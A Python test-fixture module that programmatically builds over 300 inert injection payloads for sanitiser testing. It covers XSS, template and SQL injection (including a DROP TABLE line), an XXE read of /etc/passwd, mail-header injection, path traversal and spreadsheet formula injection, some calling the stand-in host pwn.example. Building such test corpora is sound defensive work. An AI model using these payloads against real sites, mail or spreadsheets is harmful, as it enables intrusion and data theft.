"""More than 300 things that somebody may write to make a page, a mail, a feed or a
table do something: made by code from what such texts are known to be built of.

Whatever would run says ``pwn``; see `tests.inert.reading` for what must not be there.
"""

from itertools import product

HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onblur", "onmouseover", "ontoggle"),
    *("onpointerenter", "onanimationstart", "onbeforetoggle", "onscroll", "oninput"),
    *("onwheel", "oncut", "onpaste", "onpageshow", "onresize", "onbegin", "onstart"),
)
CARRIERS = (
    "<img src=x {0}=pwn()>",
    "<svg {0}=pwn()>",
    "<details open {0}=pwn()><summary>x</summary></details>",
    "<input autofocus {0}=pwn()>",
    "<body {0}=pwn()>",
    "<video src=x {0}=pwn()></video>",
)
# Ways out of where a text may stand: an attribute, a tag, a comment, a script.
OUT = ('"', "'", "`", ">", '">', "'>", "-->", "</title>", "</textarea>", "</script>")
OUT_WITH = ("<img src=x onerror=pwn()>", " autofocus onfocus=pwn() x=", "<script>pwn()")
SCHEMES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    " javascript:pwn()",
    "javascript&colon;pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "//pwn.example/",
    "https://pwn.example/%0d%0aSet-Cookie:pwn=1",
)
LINKS = ("{0}", "<a href='{0}'>x</a>", "<form action='{0}'><button>", "[x]({0})")
WHOLE = (
    "<script>pwn()</script>",
    "<SCRIPT SRC=//pwn.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script\x0bsrc=//pwn.example>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<base href=//pwn.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<link rel=stylesheet href=//pwn.example/x.css>",
    "<style>*{background:url(//pwn.example)}</style>",
    "<div style='background:url(javascript:pwn())'>",
    "<math><mi xlink:href=javascript:pwn()>x</mi></math>",
    "<svg><script>pwn()</script></svg>",
    "<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<template><script>pwn()</script></template>",
    "<select><option><script>pwn()</script></select>",
    "<!--<img src='--><img src=x onerror=pwn()>'>",
    "<![CDATA[<script>pwn()</script>]]>",
    "]]><script>pwn()</script>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY pwn SYSTEM 'file:///etc/passwd'>]>&pwn;",
    "<?php pwn(); ?>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "';pwn();//",
    '";pwn();//',
    "\\';pwn();//",
    "${pwn()}",
    "{{ pwn }}",
    "{{7*7}}pwn",
    "{% load pwn %}",
    "{% debug %}pwn",
    "{# pwn #}",
    "<%= pwn() %>",
    "#{pwn()}",
    "%(pwn)s",
    "%s%s%s%npwn",
    "{pwn}",
    "{0.__class__.pwn}",
    "\u2028pwn()\u2029",
    "\u202epwn\u202c",
    "\u2066pwn\u2069",
    "\u200bpwn\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319pwn",
    "\x1b[31mpwn\x1b[0m",
    "\x00pwn",
    "\ud800pwn",
    "pwn\U0001f469\u200d\U0001f52c",
    "../../../etc/pwn",
    "C:\\pwn\\..\\x",
    "pwn' OR '1'='1",
    "pwn'; DROP TABLE surveys_reply; --",
    '{"pwn": {"$gt": ""}}',
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwn()//'>",
)
HEADERS = tuple(
    f"pwn{line_end}{header}"
    for line_end, header in product(
        ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\x0b"),
        (
            "Bcc: pwn@example.com",
            "Subject: pwn",
            "Content-Type: text/html",
            ".\r\nQUIT",
        ),
    )
)
FORMULAS = tuple(
    f"{before}{sign}{formula}"
    for before, sign, formula in product(
        ("", " ", "\t", '"', "\uff1d"),
        ("=", "+", "-", "@"),
        ("cmd|' /C pwn'!A0", 'HYPERLINK("//pwn.example","x")'),
    )
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(carrier.format(name) for name, carrier in product(HANDLERS, CARRIERS)),
            *(out + then for out, then in product(OUT, OUT_WITH)),
            *(link.format(scheme) for scheme, link in product(SCHEMES, LINKS)),
            *WHOLE,
            *HEADERS,
            *FORMULAS,
        )
    )
)
